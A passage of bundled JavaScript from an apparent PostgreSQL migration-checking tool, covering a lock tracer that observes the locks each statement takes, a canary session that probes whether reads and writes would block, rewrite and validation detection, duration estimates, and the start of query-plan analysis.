    if (!constraint.valid || old?.valid || !before.relations.has(constraint.table)) continue;
    if (constraint.type === "n") {
      if (constraint.columns[0] !== void 0) notNull.push({ table: constraint.table, attnum: constraint.columns[0] });
      continue;
    }
    if (constraint.type === "c" && rewritten.has(constraint.table)) continue;
    const kind = constraint.type === "c" ? "CHECK" : "FOREIGN KEY";
    found.push({ relation: name(constraint.table), what: `${kind} constraint ${constraint.name}` });
  }
  if (!evidence2.notNullConstraints) {
    for (const [table, columns] of after.columns) {
      const old = before.columns.get(table);
      if (!old) continue;
      for (const attnum of columns.notNull.keys()) {
        if (attnum <= old.maxAttnum && !old.notNull.has(attnum)) notNull.push({ table, attnum });
      }
    }
  }
  for (const { table, attnum } of notNull) {
    const previous = before.columns.get(table);
    const column = after.columns.get(table)?.notNull.get(attnum);
    if (!previous || attnum > previous.maxAttnum || column === void 0 || rewritten.has(table)) continue;
    if (evidence2.scansBefore) {
      const scanned = (after.scans.get(table) ?? 0) > (evidence2.scansBefore.get(table) ?? 0);
      if (!scanned) continue;
    }
    if (await evidence2.impliedByCheck(table, column)) continue;
    found.push({ relation: name(table), what: `NOT NULL on column ${column}` });
  }
  return found.sort((a, b) => a.relation === b.relation ? a.what < b.what ? -1 : 1 : a.relation < b.relation ? -1 : 1);
}
var USER_RELATIONS, locksOf, STATE, BEFORE;
var init_state = __esm({
  "src/trace/state.ts"() {
    "use strict";
    init_locks();
    USER_RELATIONS = `
  SELECT c.oid::int8 AS oid
  FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
  WHERE c.relkind IN ('r', 'p', 'i', 'I', 'm', 'S', 'v', 'f') AND c.relpersistence <> 't'
    AND n.nspname NOT IN ('pg_catalog', 'information_schema', 'pg_toast')`;
    locksOf = (pid) => `
  SELECT coalesce(json_agg(json_build_array(l.relation::int8, l.mode, l.granted)), '[]'::json)
  FROM pg_locks l WHERE l.locktype = 'relation' AND l.mode <> 'SIReadLock' AND l.pid = ${pid}::int`;
    STATE = `
  WITH scope AS (
    SELECT coalesce(array_agg(o), '{}') AS oids FROM unnest($1::oid[]) o
    WHERE $2::bool OR o IN (SELECT relation FROM pg_locks WHERE locktype = 'relation' AND pid = pg_backend_pid())
  ), indexes AS (
    SELECT coalesce(array_agg(indexrelid), '{}') AS oids FROM scope, pg_index WHERE indrelid = ANY (scope.oids)
  )
  SELECT
    current_setting('lock_timeout') AS lock_timeout, current_setting('statement_timeout') AS statement_timeout,
    (${locksOf("pg_backend_pid()")}) AS locks,
    (SELECT coalesce(json_agg(o::int8), '[]'::json) FROM scope, unnest(scope.oids) o) AS scope,
    (SELECT coalesce(json_agg(json_build_array(c.oid::int8, format('%I.%I', n.nspname, c.relname), c.relkind,
              pg_relation_filenode(c.oid)::int8, i.indrelid::int8, pg_get_indexdef(i.indexrelid))), '[]'::json)
       FROM scope, indexes, pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace LEFT JOIN pg_index i ON i.indexrelid = c.oid
       WHERE c.oid = ANY (scope.oids || indexes.oids)) AS relations,
    (SELECT coalesce(json_agg(json_build_array(k.oid::int8, k.conrelid::int8, k.conname, k.contype, k.convalidated,
              k.conkey)), '[]'::json)
       FROM scope, pg_constraint k
       WHERE k.conrelid = ANY (scope.oids) AND k.contype IN ('c', 'f', 'n')) AS constraints,
    (SELECT coalesce(json_agg(json_build_array(a.attrelid, a.max_attnum, a.not_null)), '[]'::json)
       FROM (SELECT attrelid::int8, max(attnum) AS max_attnum,
                    coalesce(json_agg(json_build_array(attnum, attname)) FILTER (WHERE attnotnull AND NOT attisdropped),
                             '[]'::json) AS not_null
             FROM scope, pg_attribute WHERE attrelid = ANY (scope.oids) AND attnum > 0 GROUP BY attrelid) a) AS columns,
    (SELECT coalesce(json_agg(json_build_array(o::int8, pg_stat_get_xact_numscans(o))), '[]'::json)
       FROM scope, unnest(scope.oids) o) AS scans`;
    BEFORE = `
  SELECT current_setting('lock_timeout') AS lock_timeout, current_setting('statement_timeout') AS statement_timeout,
    (SELECT coalesce(json_agg(json_build_array(o::int8, pg_stat_get_xact_numscans(o))), '[]'::json)
       FROM unnest($1::oid[]) o) AS scans`;
  }
});

// src/trace/canary.ts
import { setTimeout as sleep } from "node:timers/promises";
async function backendPid(session) {
  const [row] = await session.query("SELECT pg_backend_pid() AS pid");
  return row.pid;
}
function isSqlError2(error) {
  return error instanceof Error && error.severity === "ERROR";
}
var LOCK_NOT_AVAILABLE, PIN_WAIT_MS, POLL_MS, Canary;
var init_canary = __esm({
  "src/trace/canary.ts"() {
    "use strict";
    init_state();
    LOCK_NOT_AVAILABLE = "55P03";
    PIN_WAIT_MS = 1e4;
    POLL_MS = { first: 1, max: 50 };
    Canary = class _Canary {
      #probe;
      #pins;
      #lockTimeoutMs;
      constructor(probe, pins, lockTimeoutMs) {
        this.#probe = probe;
        this.#pins = pins;
        this.#lockTimeoutMs = lockTimeoutMs;
      }
      static async open(provider, lockTimeoutMs) {
        const sessions = [];
        try {
          for (let i = 0; i < 3; i++) sessions.push(await provider.open());
          const pids = await Promise.all(sessions.slice(1).map(backendPid));
          const [probe, first, second] = sessions;
          return new _Canary(probe, [{ session: first, pid: pids[0] }, { session: second, pid: pids[1] }], lockTimeoutMs);
        } catch (error) {
          await Promise.all(sessions.map((session) => session.close()));
          throw error;
        }
      }
      get session() {
        return this.#probe;
      }
      async close() {
        await Promise.all([this.#probe, ...this.#pins.map((pin) => pin.session)].map((session) => session.close()));
      }
      /**
       * Whether a plain SELECT and a DELETE on each table (by OID) would have to wait now. EXPLAIN plans without
       * running, and planning takes the locks the query would take: ACCESS SHARE (ROW EXCLUSIVE for DELETE) on the
       * table, its indexes and its partitions, so a lock on an index blocks here as it blocks the application.
       *
       * `known` is what an earlier probe found in the same transaction. Within a transaction locks only accumulate
       * (until COMMIT, ROLLBACK or ROLLBACK TO SAVEPOINT, after which the caller forgets its answers), so what was
       * blocked stays blocked: a table known blocked for reads and writes is not probed again, and one known blocked
       * for writes only gets the read probe, since only a stronger lock taken since can have blocked reads too.
       */
      async probe(tables, known) {
        const blocked = /* @__PURE__ */ new Map();
        const oids = [];
        for (const oid of tables) {
          const earlier = known?.get(oid);
          if (earlier?.reads && earlier.writes) blocked.set(oid, earlier);
          else oids.push(oid);
        }
        if (oids.length === 0) return blocked;
        const visible = await this.#probe.query(
          `SELECT c.oid::int8 AS oid, format('%I.%I', n.nspname, c.relname) AS name
       FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE c.oid = ANY($1::oid[])`,
          [oidArray(oids)]
        );
        for (const { oid, name } of visible) {
          const reads = await this.#waits(`EXPLAIN SELECT FROM ${name}`);
          const writes = reads || known?.get(oid)?.writes === true || await this.#waits(`EXPLAIN DELETE FROM ${name}`);
          blocked.set(oid, { reads, writes });
        }
        return blocked;
      }
      async #waits(query) {
        try {
          await this.#probe.exec(`SET LOCAL lock_timeout = ${this.#lockTimeoutMs}; ${query}`);
          return false;
        } catch (error) {
          if (error.code === LOCK_NOT_AVAILABLE) return true;
          throw error;
        }
      }
      /**
       * Runs `start` (a statement that commits on its own) while pins hold it before it completes, calling
       * `observe` each time it waits for one. The first pin is a REPEATABLE READ snapshot, which CREATE INDEX
       * CONCURRENTLY and REINDEX CONCURRENTLY wait for once they hold their locks, plus ACCESS SHARE on `tables`,
       * which DROP INDEX CONCURRENTLY and DETACH PARTITION CONCURRENTLY wait for. Before the first pin lets go, the
       * second takes ACCESS SHARE again, to hold a statement that goes on to wait for lockers or to take a stronger
       * lock in its next transaction (DETACH PARTITION CONCURRENTLY's ACCESS EXCLUSIVE on the partition).
       * Returns the statement's result and how long it was seen waiting for the pins.
       */
      async hold(mainPid, tables, start, observe) {
        const [first, second] = this.#pins;
        const open = /* @__PURE__ */ new Set();
        if (await this.#pin(first, tables, true)) open.add(first);
        let done = false;
        const running = start().finally(() => {
          done = true;
        });
        const finished = running.then(
          () => void 0,
          () => void 0
        );
        let heldMs = 0;
        let observed = false;
        try {
          let holding = open.has(first) ? first : void 0;
          for (let round3 = 0; holding && round3 < 2; round3++) {
            if (!await this.#waitFor(holding.pid, mainPid, finished, () => done)) break;
            const seen = performance.now();
            await observe();
            observed = true;
            const next = round3 === 0 && tables.length > 0 && await this.#pin(second, tables, false) ? second : void 0;
            if (next) open.add(next);
            open.delete(holding);
            await holding.session.exec("ROLLBACK");
            heldMs += performance.now() - seen;
            holding = next;
          }
        } finally {
          try {
            for (const pin of [...open]) {
              open.delete(pin);
              await pin.session.exec("ROLLBACK");
            }
          } finally {
            await finished;
          }
        }
        return { result: await running, heldMs, observed };
      }
      /**
       * Opens a transaction on the pin, with a snapshot or not, holding ACCESS SHARE on `tables` (NOWAIT: nothing
       * should hold a conflicting lock, and if something does, the pin is not worth a wait). Without the table
       * locks, a snapshot alone still holds CREATE INDEX CONCURRENTLY.
       */
      async #pin(pin, tables, snapshot) {
        const lock = tables.length > 0 ? `LOCK TABLE ${tables.join(", ")} IN ACCESS SHARE MODE NOWAIT; ` : "";
        const sql = snapshot ? `BEGIN ISOLATION LEVEL REPEATABLE READ; ${lock}SELECT 1` : `BEGIN; ${lock}`;
        try {
          await pin.session.exec(sql);
          return true;
        } catch (error) {
          if (!isSqlError2(error)) throw error;
          await pin.session.exec("ROLLBACK");
          return snapshot && lock !== "" ? this.#pin(pin, [], true) : false;
        }
      }
      /** Polls until backend `mainPid` waits for the pin; false if the statement finished first or the wait ran out. */
      async #waitFor(pinPid, mainPid, finished, done) {
        const deadline = performance.now() + PIN_WAIT_MS;
        let pause = POLL_MS.first;
        while (!done() && performance.now() < deadline) {
          const [row] = await this.#probe.query(
            "SELECT $1::int = ANY(pg_blocking_pids($2::int)) AS waiting",
            [pinPid, mainPid]
          );
          if (row?.waiting) return true;
          await Promise.race([sleep(pause), finished]);
          pause = Math.min(pause * 2, POLL_MS.max);
        }
        return false;
      }
    };
  }
});

// src/trace/tracer.ts
async function createTracer(provider, session, options = {}) {
  const lockTimeoutMs = options.canaryLockTimeoutMs ?? DEFAULT_CANARY_LOCK_TIMEOUT_MS;
  if (!Number.isInteger(lockTimeoutMs) || lockTimeoutMs <= 0) {
    throw new TypeError(`canaryLockTimeoutMs must be a positive integer, got ${lockTimeoutMs}`);
  }
  try {
    const tracked = await userRelations(session);
    const [settings] = await session.query(
      "SELECT pg_backend_pid() AS pid, current_setting('track_counts') AS counts"
    );
    const pid = settings.pid;
    const canary = provider.concurrent ? await Canary.open(provider, lockTimeoutMs) : void 0;
    return new SessionTracer({
      session,
      pid,
      canary,
      tracked,
      serverMajor: provider.serverVersion.major,
      scanCounts: settings.counts === "on"
    });
  } catch (error) {
    throw new TraceError(`could not prepare the lock trace: ${describe2(error)}`);
  }
}
function transactionControl(statement) {
  if (statement.type !== "TransactionStmt") return void 0;
  return BEGIN_KINDS2.has(statement.node.kind ?? "") ? "begin" : "other";
}
function isSetTransaction(statement) {
  const node = statement.node;
  return statement.type === "VariableSetStmt" && node.kind === "VAR_SET_MULTI" && node.name?.startsWith("TRANSACTION") === true;
}
function transactionSpans(statements) {
  const spans = /* @__PURE__ */ new Map();
  for (const statement of statements) {
    if (statement.transaction === void 0) continue;
    const kind = statement.type === "TransactionStmt" ? statement.node.kind ?? "" : "";
    let span = spans.get(statement.transaction);
    if (span) {
      span.last = statement.index;
      span.closed = END_KINDS.has(kind);
    } else {
      span = { first: statement.index, last: statement.index, opened: BEGIN_KINDS2.has(kind), closed: END_KINDS.has(kind), setTransaction: void 0 };
      spans.set(statement.transaction, span);
    }
    if (isSetTransaction(statement)) span.setTransaction = statement.index;
  }
  return spans;
}
function emptyTrace(before, ms, observedBy) {
  return {
    locks: [],
    rewrites: [],
    validated: [],
    durationMs: round(ms),
    lockTimeout: before.lockTimeout,
    statementTimeout: before.statementTimeout,
    observedBy
  };
}
function failed(statement, before, ran) {
  return withFailure(statement, emptyTrace(before, ran.ms, "none"), ran.error, true);
}
function withFailure(statement, trace, error, inStatement) {
  const code = typeof error.code === "string" ? error.code : void 0;
  const failure2 = { statement: statement.index, message: error.message };
  if (code) failure2.code = code;
  const position = inStatement ? errorOffset(statement, error.position) : void 0;
  if (position !== void 0) failure2.position = position;
  return { trace: { ...trace, error: code ? { message: error.message, code } : { message: error.message } }, failure: failure2 };
}
function errorOffset(statement, position) {
  const characters = Number(position);
  if (!Number.isInteger(characters) || characters < 1) return void 0;
  const prefix = Array.from(statement.text).slice(0, characters - 1).join("");
  return statement.range.start + Buffer.byteLength(prefix, "utf8");
}
function reports(blocked, names3) {
  return [...blocked].filter(([oid]) => names3.has(oid)).map(([oid, { reads, writes }]) => ({ relation: names3.get(oid), reads, writes })).sort((a, b) => a.relation < b.relation ? -1 : 1);
}
function round(ms) {
  return Math.round(Math.max(0, ms) * 1e3) / 1e3;
}
var TraceError, DEFAULT_CANARY_LOCK_TIMEOUT_MS, ACTIVE_SQL_TRANSACTION, BEGIN_KINDS2, END_KINDS, NEVER_WRAPPED, TABLE_KINDS, IMPLIED_BY_CHECK, SessionTracer;
var init_tracer = __esm({
  "src/trace/tracer.ts"() {
    "use strict";
    init_provider();
    init_guard();
    init_canary();
    init_state();
    TraceError = class extends Error {
      constructor(message, at) {
        super(message);
        this.at = at;
      }
      at;
      name = "TraceError";
    };
    DEFAULT_CANARY_LOCK_TIMEOUT_MS = 20;
    ACTIVE_SQL_TRANSACTION = "25001";
    BEGIN_KINDS2 = /* @__PURE__ */ new Set(["TRANS_STMT_BEGIN", "TRANS_STMT_START"]);
    END_KINDS = /* @__PURE__ */ new Set(["TRANS_STMT_COMMIT", "TRANS_STMT_ROLLBACK", "TRANS_STMT_PREPARE"]);
    NEVER_WRAPPED = /* @__PURE__ */ new Set(["TransactionStmt", "LockStmt", "DeclareCursorStmt"]);
    TABLE_KINDS = /* @__PURE__ */ new Set(["r", "p"]);
    IMPLIED_BY_CHECK = `
  SELECT EXISTS (
    SELECT FROM pg_constraint
    WHERE conrelid = $1::oid AND contype = 'c' AND convalidated
      AND pg_get_constraintdef(oid) = format('CHECK ((%I IS NOT NULL))', $2::text)) AS implied`;
    SessionTracer = class {
      #session;
      #pid;
      #canary;
      /** The relations that existed before the change (and the indexes rebuilt in their place since). */
      #tracked;
      #serverMajor;
      #scanCounts;
      /** The catalog as the previous statement left it (read afresh at the start of each file). */
      #state;
      /** The locks the open transaction held before the current statement. */
      #held = [];
      /** What the canary found in the open transaction, by table OID: the same locks block the same operations. */
      #blocked;
      /**
       * The scan counts of every tracked relation in the open transaction, as of the last catalog read, when the
       * tracer has followed the transaction since it read them all: see #before.
       */
      #scans;
      /** The settings the last statement left, when nothing ran on the session since the catalog read after it. */
      #settings;
      constructor(setup) {
        this.#session = setup.session;
        this.#pid = setup.pid;
        this.#canary = setup.canary;
        this.#tracked = setup.tracked;
        this.#serverMajor = setup.serverMajor;
        this.#scanCounts = setup.scanCounts;
      }
      async close() {
        await this.#canary?.close();
      }
      async traceFile(file) {
        const traces = file.statements.map(() => void 0);
        const spans = transactionSpans(file.statements);
        let current;
        try {
          this.#state = await readState(this.#session, this.#tracked);
          this.#forget();
          for (const statement of file.statements) {
            current = statement;
            const refusal = unsafeStatement(statement);
            if (refusal) {
              await this.#recover();
              const failure2 = { statement: statement.index, message: refusalMessage(refusal), position: refusal.offset, refused: true };
              return { statements: traces, failure: failure2 };
            }
            const span = statement.transaction === void 0 ? void 0 : spans.get(statement.transaction);
            if (span?.first === statement.index && !span.opened) await this.#session.exec("BEGIN");
            let outcome = span ? await this.#inTransaction(statement, span) : await this.#autocommit(statement);
            if (!outcome.failure && span?.last === statement.index && !span.closed) {
              outcome = await this.#commit(statement, outcome.trace);
            }
            traces[statement.index] = outcome.trace;
            if (outcome.failure) {
              await this.#recover();
              return { statements: traces, failure: outcome.failure };
            }
          }
        } catch (error) {
          const where = current ? `statement ${current.index + 1} of ${file.path}` : file.path;
          const code = error.code;
          throw new TraceError(
            `the lock trace stopped at ${where}: ${describe2(error)}`,
            current ? { file: file.path, statement: current.index, ...typeof code === "string" ? { code } : {} } : void 0
          );
        }
        return { statements: traces };
      }
      /** A statement in one of the file's transactions (opened by the file, its runner, or Postgres). */
      async #inTransaction(statement, span) {
        const kind = transactionControl(statement);
        if (kind === "begin" || span.setTransaction !== void 0 && statement.index <= span.setTransaction) {
          const before2 = await showSettings(this.#session);
          const ran2 = await this.#run(statement);
          return ran2.error ? failed(statement, before2, ran2) : { trace: emptyTrace(before2, ran2.ms, "transaction") };
        }
        const before = await this.#before();
        const ran = await this.#run(statement);
        if (ran.error) return failed(statement, before, ran);
        if (kind === "other") {
          this.#state = await readState(this.#session, this.#tracked);
          this.#held = this.#state.locks;
          this.#forget();
          return { trace: emptyTrace(before, ran.ms, "transaction") };
        }
        return { trace: await this.#observeInTransaction(before, ran) };
      }
      /** A statement that commits on its own: wrapped in BEGIN ... COMMIT to read its locks, if it can be. */
      async #autocommit(statement) {
        if (NEVER_WRAPPED.has(statement.type)) {
          this.#forget();
          const before2 = await readBefore(this.#session, this.#tracked);
          return this.#outside(statement, before2, false);
        }
        await this.#session.exec("BEGIN");
        const before = await this.#before();
        const ran = await this.#run(statement);
        if (ran.error?.code === ACTIVE_SQL_TRANSACTION) {
          await this.#session.exec("ROLLBACK");
          return this.#outside(statement, before, true);
        }
        if (ran.error) return failed(statement, before, ran);
        return this.#commit(statement, await this.#observeInTransaction(before, ran));
      }
      /** After a statement ran in a transaction that is still open: its locks are held. */
      async #observeInTransaction(before, ran) {
        const previous = this.#state;
        const after = await readState(this.#session, this.#tracked, previous);
        const locks = newLocks(this.#held, after.locks, (oid) => this.#name(oid, previous, after));
        const { rewritten, validated } = await this.#changes(after, this.#scanCounts ? before.scans : void 0);
        const held = after.locks;
        this.#held = held;
        this.#settings = after.settings;
        for (const [oid, scans] of after.scans) this.#scans?.set(oid, scans);
        const trace = {
          locks,
          rewrites: rewritten,
          validated,
          durationMs: round(ran.ms),
          lockTimeout: before.lockTimeout,
          statementTimeout: before.statementTimeout,
          observedBy: "transaction"
        };
        if (this.#canary) {
          const tables = this.#tablesLocked(held, previous, after);
          if (locks.length > 0 || !this.#blocked) this.#blocked = await this.#canary.probe(tables.keys(), this.#blocked);
          trace.blocked = reports(this.#blocked, tables);
        }
        return trace;
      }
      /**
       * A statement that cannot run in a transaction block (CREATE INDEX CONCURRENTLY, VACUUM...), or must not be
       * wrapped: on a real server the canary watches it while pins hold it; on PGlite its locks stay unknown.
       */
      async #outside(statement, before, watch) {
        const canary = watch ? this.#canary : void 0;
        let ran;
        let heldMs = 0;
        let seen;
        if (canary) {
          const lockTimeout = before.lockTimeout;
          if (lockTimeout !== "0") await this.#session.exec("SET lock_timeout = 0");
          try {
            const observed = { locks: [], blocked: /* @__PURE__ */ new Map() };
            const tables = [...this.#state.relations.values()].filter((relation) => this.#tracked.has(relation.oid) && TABLE_KINDS.has(relation.kind)).map((relation) => relation.name);
            const watched = await canary.hold(this.#pid, tables, () => this.#run(statement), async () => {
              const locks = await readLocks(canary.session, this.#pid);
              observed.locks.push(...locks);
              for (const [oid, now] of await canary.probe(this.#tablesLocked(locks, this.#state).keys())) {
                const earlier = observed.blocked.get(oid);
                observed.blocked.set(oid, { reads: now.reads || earlier?.reads === true, writes: now.writes || earlier?.writes === true });
              }
            });
            ran = watched.result;
            heldMs = watched.heldMs;
            if (watched.observed) seen = observed;
          } finally {
            if (lockTimeout !== "0") await this.#session.query("SELECT set_config('lock_timeout', $1, false)", [lockTimeout]);
          }
        } else {
          ran = await this.#run(statement);
        }
        ran = { ...ran, ms: ran.ms - heldMs };
        if (ran.error) return failed(statement, before, ran);
        const previous = this.#state;
        const after = await readState(this.#session, this.#tracked);
        const { rewritten, validated } = await this.#changes(after, void 0);
        const trace = {
          locks: seen ? newLocks([], seen.locks, (oid) => this.#name(oid, previous, after)) : [],
          rewrites: rewritten,
          validated,
          durationMs: round(ran.ms),
          lockTimeout: before.lockTimeout,
          statementTimeout: before.statementTimeout,
          observedBy: seen ? "canary" : "none"
        };
        if (seen) trace.blocked = reports(seen.blocked, this.#tablesLocked(seen.locks, previous, after));
        return { trace };
      }
      /** Rewrites and validations since the previous statement; moves the tracer's state forward. */
      async #changes(after, scansBefore) {
        const before = this.#state;
        const adopted = adoptRebuiltIndexes(this.#tracked, before, after);
        const rewritten = rewrites(this.#tracked, before, after, adopted);
        const rewrittenTables = new Set(rewritten.filter((relation) => relation.table === null).map((relation) => relation.oid));
        const validated = await validations(before, after, rewrittenTables, {
          scansBefore,
          notNullConstraints: this.#serverMajor >= 18,
          impliedByCheck: async (table, column) => {
            if (this.#serverMajor < 12) return false;
            const [row] = await this.#session.query(IMPLIED_BY_CHECK, [table, column]);
            return row?.implied === true;
          }
        });
        for (const successor of adopted.values()) this.#tracked.add(successor.oid);
        this.#state = after;
        return { rewritten: rewritten.map((relation) => relation.name), validated };
      }
      /** Commits the transaction the runner opened; a failing COMMIT (deferred constraints) fails the statement. */
      async #commit(statement, trace) {
        try {
          await this.#session.exec("COMMIT");
        } catch (error) {
          if (!isSqlError2(error)) throw error;
          return withFailure(statement, trace, error, false);
        } finally {
          this.#held = [];
          this.#forget();
        }
        return { trace };
      }
      /** After a failure: the runner's transaction is rolled back, so the catalog is read again. */
      async #recover() {
        await this.#session.exec("ROLLBACK");
        this.#state = await readState(this.#session, this.#tracked);
        this.#held = [];
        this.#forget();
      }
      /**
       * What a statement in a transaction runs under: its settings, and the scan counts its validations are judged
       * against. The first statement of a transaction reads them (every tracked relation's count: pending counts of
       * earlier transactions may not have been flushed yet, so they need not be 0). For the next statements of the
       * same transaction the read after the previous statement is enough, with no round trip of its own: the
       * settings are read there, and so are the counts of every relation the transaction holds a lock on. The other
       * counts cannot have moved since: a scan takes a lock that is held until the transaction ends, and the server
       * flushes pending counts only outside a transaction block.
       */
      async #before() {
        if (this.#settings && this.#scans) {
          const before2 = { ...this.#settings, scans: new Map(this.#scans) };
          this.#settings = void 0;
          return before2;
        }
        const before = await readBefore(this.#session, this.#tracked);
        this.#scans = new Map(before.scans);
        return before;
      }
      /** The transaction ended, or the tracer lost track of it (a rollback to a savepoint): forget what it found. */
      #forget() {
        this.#blocked = void 0;
        this.#scans = void 0;
        this.#settings = void 0;
      }
      async #run(statement) {
        const start = performance.now();
        try {
          await this.#session.exec(statement.text);
          return { ms: performance.now() - start };
        } catch (error) {
          if (!isSqlError2(error)) throw error;
          return { ms: performance.now() - start, error };
        }
      }
      /** A tracked relation's name as it was before the statement: a renamed table keeps the name it was locked by. */
      #name(oid, before, after) {
        if (!this.#tracked.has(oid)) return void 0;
        return (before.relations.get(oid) ?? after.relations.get(oid))?.name;
      }
      /**
       * The tracked tables that `locks` touch directly or through one of their indexes, by OID, with their names.
       * `states` are searched in order: a table dropped by the statement is still there for other sessions.
       */
      #tablesLocked(locks, ...states) {
        const find = (oid) => states.map((state) => state.relations.get(oid)).find((relation) => relation);
        const tables = /* @__PURE__ */ new Map();
        for (const lock of locks) {
          if (!this.#tracked.has(lock.oid)) continue;
          const relation = find(lock.oid);
          const table = relation?.table ? find(relation.table) : relation;
          if (table && this.#tracked.has(table.oid) && TABLE_KINDS.has(table.kind)) tables.set(table.oid, table.name);
        }
        return tables;
      }
    };
  }
});

// src/trace/index.ts
var init_trace = __esm({
  "src/trace/index.ts"() {
    "use strict";
    init_tracer();
  }
});

// src/check/estimate.ts
async function tableSizes(session, relations) {
  const sizes = /* @__PURE__ */ new Map();
  if (relations.length === 0) return sizes;
  const rows2 = await session.query(
    `SELECT quote_ident(n.nspname) || '.' || quote_ident(c.relname) AS relation, pg_total_relation_size(c.oid)::float8 AS bytes
       FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
      WHERE n.nspname || '.' || c.relname = ANY($1::text[]) AND c.relkind IN ('r', 'p', 'm')`,
    [relations.map(unquote2)]
  );
  for (const row of rows2) {
    const [counted] = await session.query(`SELECT count(*)::int8 AS n FROM ${row.relation}`);
    sizes.set(unquote2(row.relation), { rows: Number(counted.n), bytes: Number(row.bytes) });
  }
  return sizes;
}
function unquote2(relation) {
  return relation.replace(/"/g, "");
}
function productionRows(tables, relation) {
  const name = unquote2(relation);
  const short = name.startsWith("public.") ? name.slice("public.".length) : void 0;
  return tables[name]?.rows ?? (short !== void 0 ? tables[short]?.rows : void 0);
}
async function estimateStatement(trace, indexBuildOn, sizes, tables, calibration) {
  const work = [
    ...trace.rewrites.filter((r) => sizes.has(r)).map((relation) => ({ relation, operation: "rewrite" })),
    ...trace.validated.map((v) => ({ relation: v.relation, operation: "scan" })),
    ...indexBuildOn ? [{ relation: indexBuildOn, operation: "index build" }] : []
  ];
  const estimates = [];
  for (const { relation, operation } of work) {
    const rows2 = productionRows(tables, relation);
    if (rows2 === void 0 || estimates.some((e) => e.relation === relation && e.operation === operation)) continue;
    const seeded = sizes.get(relation)?.rows ?? 0;
    const measured2 = seeded >= MEASURABLE_ROWS && trace.durationMs > 0;
    const rowsPerSecond = measured2 ? seeded / (trace.durationMs / 1e3) : await calibration.rate(operation);
    estimates.push({ relation, operation, rows: rows2, seconds: rows2 / rowsPerSecond, rowsPerSecond: Math.round(rowsPerSecond), basis: measured2 ? "measured" : "calibrated" });
  }
  return estimates;
}
var MEASURABLE_ROWS, CALIBRATION_ROWS, Calibration;
var init_estimate = __esm({
  "src/check/estimate.ts"() {
    "use strict";
    MEASURABLE_ROWS = 1e4;
    CALIBRATION_ROWS = 1e5;
    Calibration = class {
      constructor(session) {
        this.session = session;
      }
      session;
      rates;
      rate(operation) {
        this.rates ??= this.measure();
        return this.rates.then((rates) => rates[operation]);
      }
      async measure() {
        const timed = async (sql) => {
          const start = performance.now();
          await this.session.exec(sql);
          return Math.max(performance.now() - start, 1) / 1e3;
        };
        await this.session.exec("BEGIN");
        try {
          await this.session.exec(
            `CREATE TEMP TABLE sql_preflight_calibration AS
           SELECT g::int4 AS id, md5(g::text) AS payload, now() AS created_at FROM generate_series(1, ${CALIBRATION_ROWS}) g`
          );
          const scan2 = await timed("ALTER TABLE sql_preflight_calibration ADD CONSTRAINT sql_preflight_calibration_check CHECK (id > 0)");
          const index = await timed("CREATE INDEX ON sql_preflight_calibration (payload)");
          const rewrite = await timed("ALTER TABLE sql_preflight_calibration ALTER COLUMN id TYPE int8");
          return { scan: CALIBRATION_ROWS / scan2, "index build": CALIBRATION_ROWS / index, rewrite: CALIBRATION_ROWS / rewrite };
        } finally {
          await this.session.exec("ROLLBACK");
        }
      }
    };
  }
});

// src/explain/advise.ts
import { parseSync as parseSync2 } from "libpg-query";
function truncateBytes(text2, bytes) {
  let out = "";
  for (const char of text2) {
    if (Buffer.byteLength(out + char, "utf8") > bytes) break;
    out += char;
  }
  return out;
}
function indexUseLines(visit) {
  let heap = visit.node["Node Type"] === "Bitmap Index Scan" ? visit.parent : void 0;
  while (heap && heap.node["Node Type"] !== "Bitmap Heap Scan") heap = heap.parent;
  return heap ? planExcerpt(heap.node, [visit.node]) : planExcerpt(visit.node, []);
}
function columnSets(needs) {
  const singles = unique([...needs.filters.filter((f) => f.equality).map((f) => f.column), ...needs.joinKeys, ...needs.filters.map((f) => f.column), ...needs.sortKeys.slice(0, 1)]);
  const filterColumns = unique(needs.filters.map((f) => f.column));
  const seconds2 = unique([...filterColumns, ...needs.sortKeys.slice(0, 1)]);
  const pairs = needs.filters.filter((f) => f.equality).flatMap((first) => seconds2.filter((second) => second !== first.column).map((second) => [first.column, second]));
  return [...singles.map((c) => [c]), ...uniqueSets(pairs)];
}
function unique(values) {
  return [...new Set(values)];
}
function uniqueSets(sets) {
  const seen = /* @__PURE__ */ new Set();
  return sets.filter((set) => !seen.has(set.join("\0")) && !!seen.add(set.join("\0")));
}
function scanNeeds(explain) {
  const byNode = /* @__PURE__ */ new Map();
  const needsOf = (node) => {
    let needs = byNode.get(node);
    if (!needs) {
      needs = { relation: { schema: node.Schema, name: node["Relation Name"] }, filters: [], joinKeys: [], sortKeys: [] };
      byNode.set(node, needs);
    }
    return needs;
  };
  for (const visit of walkPlan(explain.Plan)) {
    const { node } = visit;
    const type = node["Node Type"];
    if (type === "Seq Scan" && node["Relation Name"] && node.Filter) {
      needsOf(node).filters.push(...comparedColumns2(node.Filter, node));
    } else if ((type === "Index Scan" || type === "Index Only Scan" || type === "Bitmap Heap Scan") && node["Relation Name"] && node.Filter && filtersMost(node)) {
      const found = node["Index Cond"] ?? node["Recheck Cond"] ?? bitmapIndexCond(node);
      needsOf(node).filters.push(...found ? comparedColumns2(found, node) : [], ...comparedColumns2(node.Filter, node));
    }
    const condition = node["Hash Cond"] ?? node["Merge Cond"] ?? (type === "Nested Loop" ? node["Join Filter"] : void 0);
    const inner = node.Plans?.[1] && scanBelow(node.Plans[1]);
    if (condition && inner) needsOf(inner).joinKeys.push(...comparedColumns2(condition, inner).filter((c) => c.equality).map((c) => c.column));
    const sorted = type === "Sort" && node["Sort Key"] && node.Plans?.[0] ? scanBelow(node.Plans[0]) : void 0;
    if (sorted) needsOf(sorted).sortKeys.push(...sortColumns(node["Sort Key"], sorted));
  }
  return [...byNode.values()].map((needs) => ({ ...needs, filters: uniqueUses(needs.filters) }));
}
function uniqueUses(uses) {
  const equal = new Set(uses.filter((u) => u.equality).map((u) => u.column));
  const columns = unique(uses.map((u) => u.column));
  return [...columns.filter((c) => equal.has(c)), ...columns.filter((c) => !equal.has(c))].map((column) => ({ column, equality: equal.has(column) }));
}
function filtersMost(node) {
  const removed = node["Rows Removed by Filter"];
  const kept = node["Actual Rows"];
  if (removed === void 0 || kept === void 0) return false;
  return removed >= FILTERED_ROWS && removed / (removed + kept) >= FILTERED_SHARE;
}
function bitmapIndexCond(node) {
